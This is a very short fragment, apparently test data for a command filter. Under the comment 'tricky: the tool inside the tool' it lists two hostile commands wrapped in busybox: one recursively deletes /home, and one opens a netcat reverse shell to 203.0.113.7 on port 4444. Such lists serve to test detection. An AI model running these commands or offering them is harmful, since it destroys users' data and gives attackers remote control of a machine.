# tricky: the tool inside the tool
busybox rm -rf /home
busybox nc 203.0.113.7 4444 -e sh
